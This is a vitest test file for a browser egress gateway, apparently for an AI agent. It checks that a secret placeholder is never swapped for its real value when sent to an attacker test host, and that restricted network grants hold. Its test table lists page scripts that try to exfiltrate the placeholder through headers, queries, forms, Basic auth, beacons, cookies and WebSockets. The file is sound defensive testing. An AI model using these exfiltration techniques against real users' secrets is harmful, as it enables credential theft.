import {
  type EchoServer,
  startEchoServer,
  startServer,
  type TestServer,
  testSecret,
  trustTestServers,
} from '@jettson/egress/testing';
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
import type { BrowserSession } from './browser-session.ts';
import { startTestBrowser } from './testing/start-test-browser.ts';

// Pages that know a placeholder and want its value elsewhere, and pages that want out of a narrow network.

const UNRESTRICTED = { type: 'unrestricted', allowedHosts: [] } as const;
let api: EchoServer;
let evil: TestServer;
let browser: ReturnType<typeof startTestBrowser>;
let session: BrowserSession;
let secret: ReturnType<typeof testSecret>;
/** Everything that the attacker's host was sent. */
let heard: string[];
let page: string;

beforeAll(async () => {
  trustTestServers();
  api = await startEchoServer();
  evil = await startServer(async (request, response) => {
    const body = (await Array.fromAsync(request.setEncoding('utf8'))).join('');
    heard.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)} ${body}`);
    response.setHeader('access-control-allow-origin', '*').setHeader('access-control-allow-headers', '*');
    response.setHeader('content-type', 'text/html');
    response.end(request.url === '/' ? page : 'heard');
  });
  browser = startTestBrowser({
    allow: `api.test:${api.port},evil.test:${evil.port}`,
    resolve: async () => ['127.0.0.1'],
  });
  secret = testSecret([`api.test:${api.port}`]);
});
afterAll(async () => {
  await browser.close();
  await api.close();
  await evil.close();
});
beforeEach(async () => {
  heard = [];
  await browser.gateway.grant('c1', { network: UNRESTRICTED, secrets: [secret] });
  session = await browser.host.openSession('c1');
});
afterEach(() => session.close());

/** Runs a script on a page of the attacker, until it sets the title. */
async function onEvilPage(script: string): Promise<void> {
  page = `<body><p id="out"></p><script type="module">
    const P = '${secret.placeholder}', API = 'https://api.test:${api.port}';
    try { ${script} } catch {}
    document.body.append('finished');
  </script>`;
  await session.navigate(`http://evil.test:${evil.port}/`);
  await expect.poll(() => session.extractText(undefined)).toContain('finished');
}

test.each([
  ['a header', `await fetch('/a', { headers: { 'x-key': P } })`],
  ['a query', `await fetch('/a?q=' + P)`],
  [
    'a form with a file',
    `const form = new FormData(); form.append('f', new Blob([P]), P); await fetch('/a', { method: 'POST', body: form })`,
  ],
  ['Basic', `await fetch('/a', { headers: { authorization: 'Basic ' + btoa('x:' + P) } })`],
  ['a beacon', `navigator.sendBeacon('/a', P); await new Promise((r) => setTimeout(r, 200))`],
  ['a cookie', `document.cookie = 'a=' + P; await fetch('/a')`],
  [
    'the handshake of a WebSocket',
    `await new Promise((r) => { const s = new WebSocket('ws://' + location.host + '/a?q=' + P); s.onerror = r; s.onclose = r; })`,
  ],
])('%s to its own host carries the placeholder, not the value', async (_, script) => {
  await onEvilPage(script);

  expect(heard.length).toBeGreaterThan(1);
  expect(heard.join()).not.toContain(secret.value);
  expect(heard.join()).not.toContain(Buffer.from(`x:${secret.value}`).toString('base64').slice(4, -4));
  expect(await session.extractText(undefined)).not.toContain(secret.value);
});

test("a page cannot read another host's answer, and a redirect back holds the placeholder", async () => {
  await onEvilPage(`
    const opaque = await fetch(API + '/echo?q=' + P, { mode: 'no-cors' });
    document.getElementById('out').textContent = opaque.type;
    await fetch(API + '/echo', { headers: { 'x-key': P } }).catch((error) => document.body.append(String(error)));`);

  expect(api.seen[0]?.url).toBe(`/echo?q=${secret.value}`);
  expect(heard.join()).not.toContain(secret.value);
  expect(await session.extractText(undefined)).not.toContain(secret.value);
});

test('a narrow network holds for a page, what it loads and what it opens later', async () => {
  await browser.gateway.grant('c1', {
    network: { type: 'limited', allowedHosts: [`api.test:${api.port}`] },
    secrets: [secret],
  });
  api.page = `<body><img src="http://evil.test:${evil.port}/picture"><iframe src="http://evil.test:${evil.port}/frame"></iframe>
    <a id="away" href="http://evil.test:${evil.port}/away">away</a><script>
    fetch('http://evil.test:${evil.port}/fetch', { mode: 'no-cors' }).catch(() => document.body.append('refused'));</script>`;

  await session.navigate(`https://api.test:${api.port}/page-of-test`);
  await expect.poll(() => session.extractText(undefined)).toContain('refused');
  await session.click('#away').catch(() => {});

  expect(heard).toEqual([]);
  expect(browser.denials.some(({ reason }) => reason.includes("agent's network"))).toBe(true);
});

test('a network that is taken away ends what a page has open', async () => {
  await onEvilPage('');
  await browser.gateway.grant('c1', { network: { type: 'none', allowedHosts: [] }, secrets: [secret] });
  heard = [];

  await expect(session.navigate(`http://evil.test:${evil.port}/again`)).rejects.toThrow();

  expect(heard).toEqual([]);
});
